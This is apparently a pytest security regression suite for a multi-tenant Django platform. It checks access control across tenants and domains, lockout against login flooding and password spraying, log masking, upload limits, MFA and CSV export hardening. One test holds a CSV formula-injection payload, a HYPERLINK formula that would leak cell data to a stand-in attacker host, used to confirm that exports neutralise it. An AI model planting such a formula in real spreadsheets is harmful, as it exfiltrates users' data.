"""The fourteen findings of the trust-boundary review (issue 17), each as the attack that
succeeded before; every test here failed on main c0bac4d. Findings 2, 4 and 7 exercise one
vertical and live in its tests (apps/medical_records/tests/, apps/financial_risk/tests/).
Finding 9 is
tests/test_production_settings.py; the walkers (tests/test_access_walker.py,
tests/test_audit_of_writes.py) generalise findings 2, 3 and 4 to every admin and route.
"""

from __future__ import annotations

import io
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
import uuid
from pathlib import Path

import pytest
from django.urls import reverse

from apps.accounts.models import Membership
from apps.accounts.roles import Role
from apps.audit.models import PLATFORM_CHAIN, AuditEvent
from apps.jobs.models import Job
from knowledge.services import graph_create, graph_upsert
from tests.routes import admin_url

ROOT = Path(__file__).resolve().parents[1]
GRAPHS = "/api/v1/knowledge/graphs/"


def _graph(tenant, name, domain, nodes=("a",)):
    graph = graph_create(tenant=tenant, name=name, domain=domain)
    graph_upsert(graph=graph, nodes=[{"key": k, "type": "thing", "label": k} for k in nodes])
    return graph


# 1 -------------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_01_knowledge_graphs_follow_their_domain(tenant, make_api_client):
    medical = _graph(tenant, "medical", "medical", ["allergy:penicillin", "drug:amoxicillin"])
    fraud = _graph(tenant, "fraud", "financial_risk", ["card:4111"])
    agent = make_api_client(tenant, Role.AGENT)
    clinician = make_api_client(tenant, Role.CLINICIAN)

    deleted = agent.post(
        f"{GRAPHS}{medical.public_id}/delete-nodes/",
        {"keys": ["allergy:penicillin"]},
        format="json",
    )
    assert deleted.status_code == 404
    assert medical.nodes.filter(key="allergy:penicillin").exists()
    for client in (agent, clinician):
        assert client.get(f"{GRAPHS}{fraud.public_id}/").status_code == 404
        assert (
            client.get(f"{GRAPHS}{fraud.public_id}/export/", {"file_format": "json"}).status_code
            == 404
        )
        nodes = client.get("/api/v1/knowledge/nodes/", {"page_size": 500}).json()["results"]
        assert "card:4111" not in {n["key"] for n in nodes}
    listed = {g["name"] for g in agent.get(GRAPHS).json()["results"]}
    assert listed.isdisjoint({"medical", "fraud"})

    # Auditors read every domain and write none; clinicians write the medical graph, audited
    # with the keys they changed.
    auditor = make_api_client(tenant, Role.AUDITOR)
    assert auditor.get(f"{GRAPHS}{medical.public_id}/").status_code == 200
    assert (
        auditor.post(f"{GRAPHS}{medical.public_id}/delete-nodes/", {"keys": ["x"]}, format="json")
    ).status_code == 403
    changed = clinician.post(
        f"{GRAPHS}{medical.public_id}/delete-nodes/", {"keys": ["drug:amoxicillin"]}, format="json"
    )
    assert changed.status_code == 200
    event = AuditEvent.objects.get(action="knowledge.graph.delete_nodes")
    assert event.details["domain_keys"] == ["drug:amoxicillin"]


# 2 ------------------------------------------------------------------------------------------- in
# apps/medical_records/tests/test_trust_findings.py (a clinical note in another tenant's admin)


# 3 -------------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_03_a_deactivated_tenant_is_shut_and_only_superusers_switch_it(
    client, make_member, tenant, make_api_client, django_user_model
):
    api = make_api_client(tenant, Role.ADMIN)
    job = Job.objects.create(tenant=tenant, kind="isolation.test", task_name="none")
    admin_user = make_member(tenant, Role.ADMIN)
    client.force_login(admin_user)
    # The tenant's own admin cannot deactivate (or later reactivate) it: the field is read-only.
    page = client.get(admin_url(tenant.__class__, "change", tenant.pk))
    assert "is_active" not in page.context["adminform"].form.fields
    # Nor switch four eyes off to promote alone (issue 22): platform staff set it.
    assert "four_eyes_promotions" not in page.context["adminform"].form.fields

    superuser = django_user_model.objects.create_superuser("platform", "p@example.test", "pw")
    client.force_login(superuser)
    page = client.get(admin_url(tenant.__class__, "change", tenant.pk))
    form = page.context["adminform"].form
    data = {"name": tenant.name, "slug": tenant.slug, "require_staff_mfa": ""}
    assert "is_active" in form.fields and "four_eyes_promotions" in form.fields
    assert client.post(admin_url(tenant.__class__, "change", tenant.pk), data).status_code == 302
    tenant.refresh_from_db()
    assert tenant.is_active is False
    assert AuditEvent.objects.filter(
        chain=PLATFORM_CHAIN, action="accounts.tenant.deactivate", resource_id=str(tenant.pk)
    ).exists()

    assert api.get("/api/v1/accounts/me/").status_code == 401
    client.force_login(admin_user)
    assert client.get(admin_url(Job, "change", job.pk)).status_code in (403, 404)
    assert client.get("/customer-service/chat/").status_code == 404
    assert client.get("/ops/").status_code in (302, 403, 404)

    client.force_login(superuser)
    data["is_active"] = "on"
    client.post(admin_url(tenant.__class__, "change", tenant.pk), data)
    assert AuditEvent.objects.filter(action="accounts.tenant.activate").exists()


# 4 ------------------------------------------------------------------------------------------- in
# apps/medical_records/tests/test_trust_findings.py (audited admin changes, a note's deletion)


# 5 -------------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_05_jobs_are_read_and_cancelled_by_their_domain_roles(tenant, make_api_client):
    verify = Job.objects.create(tenant=tenant, kind="audit.verify", task_name="none")
    training = Job.objects.create(tenant=tenant, kind="financial_risk.train", task_name="none")
    agent = make_api_client(tenant, Role.AGENT)
    for job in (verify, training):
        assert agent.get(f"/api/v1/jobs/{job.pk}/").status_code == 404
        assert agent.post(f"/api/v1/jobs/{job.pk}/cancel/").status_code == 404
    assert (
        make_api_client(tenant, Role.AUDITOR).get(f"/api/v1/jobs/{verify.pk}/").status_code == 200
    )
    assert (
        make_api_client(tenant, Role.ANALYST).get(f"/api/v1/jobs/{verify.pk}/").status_code == 404
    )
    # Auditors read a training job but may not cancel it; analysts may.
    assert (
        make_api_client(tenant, Role.AUDITOR).post(f"/api/v1/jobs/{training.pk}/cancel/")
    ).status_code == 403
    cancelled = make_api_client(tenant, Role.ANALYST).post(f"/api/v1/jobs/{training.pk}/cancel/")
    assert cancelled.status_code == 200 and cancelled.json()["state"] == "cancelled"
    verify.refresh_from_db()
    assert verify.state == "queued"


# 6 -------------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_06_a_flood_of_bogus_keys_is_throttled_and_costs_two_rows_a_minute(client, settings):
    settings.AUTH_FAILURES_PER_ADDRESS = "30/min"
    codes = []
    for index in range(1000):
        token = f"vap_{index:012x}_" + "x" * 40
        codes.append(client.get("/api/v1/jobs/", HTTP_AUTHORIZATION=f"Api-Key {token}").status_code)
    assert codes[:30] == [401] * 30
    assert set(codes[30:]) == {429}
    per_minute: dict[int, int] = {}
    for created in AuditEvent.objects.values_list("created_at", flat=True):
        minute = int(created.timestamp() // 60)
        per_minute[minute] = per_minute.get(minute, 0) + 1
    assert per_minute and max(per_minute.values()) <= 2, per_minute


# 7 ------------------------------------------------------------------------------------------- a
# parquet bomb: apps/financial_risk/tests/test_trust_findings.py; graph imports below


# 8 -------------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_08_membership_is_an_invitation_and_usernames_do_not_leak(
    tenant, make_api_client, django_user_model, client
):
    outsider = django_user_model.objects.create_user("outsider", password="pw")
    admin = make_api_client(tenant, Role.ADMIN)
    known = admin.post(
        "/api/v1/accounts/members/", {"username": "outsider", "role": "agent"}, format="json"
    )
    unknown = admin.post(
        "/api/v1/accounts/members/", {"username": "nobody-here", "role": "agent"}, format="json"
    )
    assert known.status_code == unknown.status_code == 202
    assert known.json() == unknown.json()
    assert not Membership.objects.filter(user=outsider).exists()
    events = AuditEvent.objects.filter(action="accounts.invitation.create")
    assert events.count() == 2  # one per request, known or not

    client.force_login(outsider)
    (invitation,) = client.get("/accounts/invitations/").json()["results"]
    accepted = client.post(f"/accounts/invitations/{invitation['id']}/accept/")
    assert accepted.status_code == 200
    assert Membership.objects.get(user=outsider, tenant=tenant).role == "agent"


# 10 ------------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_10_cross_tenant_lookups_leave_nothing_in_the_requesters_chain(
    tenant, other_tenant, make_api_client
):
    theirs = _graph(other_tenant, "theirs", "general")
    client = make_api_client(tenant, Role.ADMIN)
    existing = client.get(f"{GRAPHS}{theirs.public_id}/")
    missing = client.get(f"{GRAPHS}{uuid.uuid4()}/")
    # ... and graph ids are opaque: no neighbouring id to try (tests/test_opaque_ids.py).
    assert client.get(f"{GRAPHS}{theirs.pk}/").status_code == 404
    assert existing.status_code == missing.status_code == 404
    assert not AuditEvent.objects.filter(tenant=tenant).exists()
    assert AuditEvent.objects.filter(chain=PLATFORM_CHAIN, status_code=404).exists()


# 11 ------------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_11_password_spraying_from_one_address_is_locked_out(client, tenant, make_member):
    from django.conf import settings

    limit = settings.AXES_FAILURE_LIMIT
    victims = [make_member(tenant, Role.AGENT) for _ in range(30)]
    url = reverse("admin:login")
    codes = []
    for user in victims:
        # The common password is right for every account (the finding's worst case) but the
        # attacker does not know which ones; wrong guesses come first.
        codes.append(
            client.post(url, {"username": user.username, "password": "Winter2026"}).status_code
        )
    assert codes[limit:] == [429] * (30 - limit)
    correct = client.post(
        url, {"username": victims[-1].username, "password": "correct-horse-battery"}
    )
    assert correct.status_code == 429  # the address is locked, even for a right password


@pytest.mark.django_db
def test_11_an_account_is_locked_across_addresses(client, tenant, make_member):
    from django.conf import settings

    user = make_member(tenant, Role.ADMIN)
    url = reverse("admin:login")
    for index in range(settings.AXES_FAILURE_LIMIT):
        client.post(
            url, {"username": user.username, "password": "x"}, REMOTE_ADDR=f"10.0.0.{index}"
        )
    fresh = client.post(
        url,
        {"username": user.username, "password": "correct-horse-battery"},
        REMOTE_ADDR="10.9.9.9",
    )
    assert fresh.status_code == 429
    assert AuditEvent.objects.filter(action="accounts.login.locked_out").exists()


# 12 ------------------------------------------------------------------------------------------
def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_12_gunicorn_access_log_has_no_query_strings(tmp_path):
    port = _free_port()
    log = tmp_path / "access.log"
    env = dict(os.environ, DJANGO_SETTINGS_MODULE="config.settings.test")
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gunicorn",
            "config.wsgi:application",
            "-c",
            "config/gunicorn_conf.py",
            "--bind",
            f"127.0.0.1:{port}",
            "--workers",
            "1",
            "--access-logfile",
            str(log),
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        url = f"http://127.0.0.1:{port}/healthz?card=4111111111111111&email=ann%40example.com"
        for _ in range(120):
            try:
                urllib.request.urlopen(url, timeout=5).read()
                break
            except OSError:
                time.sleep(0.5)
        for _ in range(40):
            if log.exists() and "/healthz" in log.read_text():
                break
            time.sleep(0.25)
    finally:
        server.terminate()
        server.wait(timeout=30)
    text = log.read_text()
    assert "GET /healthz HTTP/1.1" in text
    assert "4111111111111111" not in text and "example.com" not in text and "card=" not in text


@pytest.mark.django_db
def test_12_hl7_precheck_does_not_echo_the_bad_segment(tenant, make_api_client):
    message = (
        "MSH|^~\\&|LAB|HOSP|EHR|HOSP|202601011200||ORU^R01|1|P|2.5\r"
        "pid Jane Doe 1970-01-01|x\r"
        "OBX|1|TX|note||Cough.\r"
    )
    response = make_api_client(tenant, Role.CLINICIAN).post(
        "/api/v1/medical/notes/hl7/", {"message": message}, format="json"
    )
    assert response.status_code == 400
    assert "Jane" not in response.content.decode()


# 13 ------------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_13_csv_exports_neutralise_formulas(tenant, make_api_client):
    import zipfile

    graph = graph_create(tenant=tenant, name="shop", domain="general")
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    graph_upsert(graph=graph, nodes=[{"key": "n1", "type": "thing", "label": payload}])
    response = make_api_client(tenant, Role.ADMIN).get(
        f"{GRAPHS}{graph.public_id}/export/", {"file_format": "csv"}
    )
    assert response.status_code == 200
    nodes = zipfile.ZipFile(io.BytesIO(response.content)).read("nodes.csv").decode()
    assert "'=HYPERLINK" in nodes
    assert not re.search(r'(^|,)"?=HYPERLINK', nodes, re.M)


def test_13_every_csv_writer_is_the_safe_one():
    """No module writes CSV with the standard library's writer directly."""
    offenders = []
    for folder in ("apps", "knowledge", "models_runtime"):
        for path in (ROOT / folder).rglob("*.py"):
            if "tests" in path.parts or path.name == "csv_safe.py":
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"use apps.core.csv_safe.csv_writer in {offenders}"


# 14 ------------------------------------------------------------------------------------------
@pytest.mark.redis
@pytest.mark.django_db
def test_14_a_model_timeout_is_a_504_in_the_one_error_format(tenant, make_api_client, settings):
    from config.celery import app as celery_app
    from tests.workers import real_broker

    settings.INFERENCE_TIMEOUT_S = 1
    clinician = make_api_client(tenant, Role.CLINICIAN)
    text = "Cough for three days. Possible pneumonia. Denies chest pain."
    note_id = clinician.post("/api/v1/medical/notes/", {"text": text}, format="json").json()["id"]
    with real_broker(celery_app):  # a broker, and no inference worker listening
        response = clinician.post(f"/api/v1/medical/notes/{note_id}/summary/")
    assert response.status_code == 504, response.content
    body = response.json()
    assert body["status"] == 504 and body["type"].endswith("/model_timeout")
    assert response["Retry-After"]


# second factor ---------------------------------------------------------------------------------
@pytest.mark.django_db
def test_staff_login_without_its_second_factor_reaches_no_admin_page(client, make_member, tenant):
    from django_otp.oath import totp
    from django_otp.plugins.otp_totp.models import TOTPDevice

    tenant.require_staff_mfa = True
    tenant.save()
    user = make_member(tenant, Role.ADMIN)
    login = client.post(
        reverse("admin:login"),
        {"username": user.username, "password": "correct-horse-battery", "next": "/admin/"},
    )
    assert login.status_code == 302
    for path in ("/admin/", admin_url(Job, "changelist"), admin_url(Membership, "changelist")):
        refused = client.get(path)
        assert refused.status_code == 302, path
        assert refused["Location"].startswith("/admin/mfa/verify/"), path

    device = TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    code = totp(device.bin_key, device.step, device.t0, device.digits, device.drift)
    wrong = f"{(code + 1) % 10**6:06d}"
    assert client.post("/admin/mfa/verify/", {"token": wrong}).status_code == 400
    assert client.get("/admin/").status_code == 302
    # django-otp delays a device's next try after a failure; this test does not wait.
    TOTPDevice.objects.filter(pk=device.pk).update(throttling_failure_count=0)
    verified = client.post("/admin/mfa/verify/?next=/admin/", {"token": f"{code:06d}"})
    assert verified.status_code == 302 and verified["Location"] == "/admin/"
    assert client.get("/admin/").status_code == 200
    assert client.get(admin_url(Job, "changelist")).status_code == 200


@pytest.mark.django_db
def test_superusers_always_need_the_second_factor(admin_client, settings):
    settings.MFA_REQUIRED_FOR_SUPERUSERS = True
    response = admin_client.get("/admin/")
    assert response.status_code == 302 and response["Location"].startswith("/admin/mfa/verify/")


@pytest.mark.django_db
def test_07_graph_imports_go_through_the_upload_guard(tenant, make_api_client, settings):
    settings.UPLOAD_LIMITS = {**settings.UPLOAD_LIMITS, "max_rows": 10}
    graph = graph_create(tenant=tenant, name="shop", domain="general")
    nodes = "key,type,label,aliases,properties\n" + "".join(f"n{i},t,,,{{}}\n" for i in range(20))
    response = make_api_client(tenant, Role.ADMIN).post(
        f"{GRAPHS}{graph.public_id}/import/",
        {"format": "csv", "files": {"nodes.csv": nodes}},
        format="json",
    )
    assert response.status_code == 413
    assert "UPLOAD_LIMITS['max_rows']" in response.json()["errors"]["nodes.csv"][0]
    assert not graph.nodes.exists()


@pytest.mark.django_db
def test_12_four_hundred_bodies_go_through_the_masker(tenant, make_api_client):
    """DRF quotes an invalid choice back; the name in it is masked like in the logs."""
    response = make_api_client(tenant, Role.ADMIN).post(
        "/api/v1/accounts/api-keys/", {"name": "crm", "role": "Ann Lee"}, format="json"
    )
    assert response.status_code == 400
    assert "Ann Lee" not in response.content.decode()
    assert response.json()["errors"]["role"]
